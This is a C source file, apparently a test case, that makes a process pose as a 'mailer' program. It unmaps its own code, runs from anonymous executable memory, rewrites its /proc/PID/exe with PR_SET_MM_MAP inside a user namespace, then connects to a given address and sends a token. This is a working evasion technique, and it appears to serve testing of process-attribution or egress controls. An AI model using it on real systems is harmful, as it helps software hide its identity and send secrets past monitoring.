/* /proc/PID/exe names the mailer: PR_SET_MM_MAP in a user namespace, which needs the
 * program's own mapping gone.  What is left runs in memory of its own, without a library.
 */
#include "../try.h"

#include <linux/prctl.h>
#include <sys/mman.h>

struct job {
	struct prctl_mm_map map;
	int fd;
	const void *to, *token;
	unsigned long token_len, from, len;
};

static inline __attribute__((always_inline)) long
call(long n, long a, long b, long c, long d, long e)
{
	register long r10 __asm__("r10") = d, r8 __asm__("r8") = e;
	long ret;
	__asm__ volatile("syscall"
			 : "=a"(ret)
			 : "a"(n), "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8)
			 : "rcx", "r11", "memory");
	return ret;
}

/* Copied elsewhere and run there: calls nothing, touches no static data. */
static __attribute__((
	section("leftcode"), noinline, optimize("O2", "no-stack-protector"))) void
remnant(const struct job *j)
{
	long rc = call(SYS_munmap, (long)j->from, (long)j->len, 0, 0, 0);
	if (rc == 0)
		rc = call(SYS_prctl, PR_SET_MM, PR_SET_MM_MAP, (long)&j->map,
			sizeof(j->map), 0);
	if (rc < 0)
		call(SYS_exit_group, 77, 0, 0, 0, 0);
	rc = call(SYS_connect, j->fd, (long)j->to, sizeof(struct sockaddr_in), 0, 0);
	if (rc == 0)
		rc = call(SYS_write, j->fd, (long)j->token, (long)j->token_len, 0, 0) > 0
			? 0
			: 1;
	call(SYS_exit_group, rc != 0, 0, 0, 0, 0);
}

extern char __start_leftcode[], __stop_leftcode[];

/* All mappings of this program's own file lie side by side. */
static void
find_own(struct job *j)
{
	char line[512], self[256] = "";
	FILE *maps = fopen("/proc/self/maps", "r");
	if (readlink("/proc/self/exe", self, sizeof(self) - 1) < 0)
		_exit(77);
	while (maps && fgets(line, sizeof(line), maps)) {
		unsigned long from, to;
		if (!strstr(line, self) || sscanf(line, "%lx-%lx", &from, &to) != 2)
			continue;
		j->from = j->from ? j->from : from;
		j->len = to - j->from;
	}
}

/* The places that it has, as the kernel wants them told again: fields of proc(5), stat. */
static void
find_places(struct prctl_mm_map *m)
{
	char text[2048] = "", *at;
	unsigned long f[53] = { 0 };
	int fd = open("/proc/self/stat", O_RDONLY), n = 3;
	if (read(fd, text, sizeof(text) - 1) < 0 || !(at = strrchr(text, ')')))
		_exit(77);
	for (at += 4; n < 52 && *at; n++)
		f[n + 1] = strtoul(at, &at, 10);
	m->start_code = f[26];
	m->end_code = f[27];
	m->start_stack = f[28];
	m->start_data = f[45];
	m->end_data = f[46];
	m->start_brk = f[47];
	m->brk = (unsigned long)sbrk(0);
	m->arg_start = f[48];
	m->arg_end = f[49];
	m->env_start = f[50];
	m->env_end = f[51];
}

int
main(int argc, char **argv)
{
	struct aim a = aim_read(argc, argv);
	size_t size = (size_t)(__stop_leftcode - __start_leftcode);
	char *page = mmap(NULL, 65536, PROT_READ | PROT_WRITE | PROT_EXEC,
		MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	if (unshare(CLONE_NEWUSER) < 0 || page == MAP_FAILED)
		return 77;
	struct job *j = (struct job *)(page + 32768);
	memcpy(page, __start_leftcode, size);
	memcpy(page + 40960, &a.to, sizeof(a.to));
	memcpy(page + 45056, a.token, strlen(a.token));
	*j = (struct job){ .fd = socket(AF_INET, SOCK_STREAM, 0),
		.to = page + 40960,
		.token = page + 45056,
		.token_len = strlen(a.token) };
	find_places(&j->map);
	j->map.exe_fd = (unsigned)open(a.mailer, O_RDONLY);
	find_own(j);
	((void (*)(const struct job *))(page + ((char *)remnant - __start_leftcode)))(j);
	return 1;
}
